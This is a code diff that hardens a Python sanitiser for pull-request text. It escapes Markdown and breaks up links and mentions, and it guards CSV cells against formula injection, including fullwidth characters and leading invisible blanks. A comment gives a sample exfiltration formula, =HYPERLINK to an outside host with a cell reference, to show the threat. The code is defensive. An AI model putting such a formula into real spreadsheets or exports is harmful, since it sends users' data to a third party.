@@ -90,14 +90,15 @@ def neutralize_json(text: str) -> str:
 def markdown_cell(text: object, limit: int = MAX_CHARS) -> str:
     """Text from a pull request, inert in GitHub Markdown: no HTML, links, images, table breaks, pings."""
     escaped = html.escape(one_line(text, limit), quote=True)
-    for char in "\\`*_[]|!":
+    for char in "\\`*_[]|!~":
         escaped = escaped.replace(char, "\\" + char)
     return _no_links_or_mentions(escaped)
 
 
 _ZERO_WIDTH_SPACE = "\u200b"
-# GitHub turns @name into a ping, and http://, https://, ftp://, www. and a@b.c into links.
-_AUTOLINK = re.compile(r"(?i)(@|://|\bwww\.)")
+# GitHub turns @name into a ping, and http://, https://, ftp://, www. and a@b.c into links: www. even after a
+# word character ("x_www.example" is a link), so it is broken up wherever it stands.
+_AUTOLINK = re.compile(r"(?i)(@|://|www\.)")
 
 
 def _no_links_or_mentions(text: str) -> str:
@@ -106,14 +107,17 @@ def _no_links_or_mentions(text: str) -> str:
 
 
 # A spreadsheet opening a CSV runs a cell that starts with one of these as a formula (CWE-1236, "CSV injection"):
-# a model named =HYPERLINK("https://x/?"&A1, "open") would send the maintainer's cells away on a click.
-_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
+# a model named =HYPERLINK("https://x/?"&A1, "open") would send the maintainer's cells away on a click. Their
+# fullwidth forms too (some spreadsheets read them as the ASCII ones), and after blanks a spreadsheet may skip:
+# spaces, no-break spaces, zero-width characters, a byte order mark.
+_FORMULA_START = re.compile("[\\s\u00a0\u200b-\u200f\u2060\ufeff]*[=+\\-@\uff1d\uff0b\uff0d\uff20\\x00]")
+_OWASP_STARTS = ("\t", "\r", "\n", "\0")
 
 
 def spreadsheet_cell(text: str) -> str:
-    """A text cell no spreadsheet runs: one that starts with a formula character, at its start or after spaces,
-    gets a leading apostrophe (the spreadsheets' own mark for text, and OWASP's and ASVS's advice)."""
-    if text.startswith(_FORMULA_STARTS) or text.lstrip(" ").startswith(_FORMULA_STARTS):
+    """A text cell no spreadsheet runs: one that starts with a formula character, or with a tab, a line break or a
+    NUL, gets a leading apostrophe (the spreadsheets' own mark for text, and OWASP's and ASVS's advice)."""
+    if text.startswith(_OWASP_STARTS) or _FORMULA_START.match(text):
         return "'" + text
     return text
 
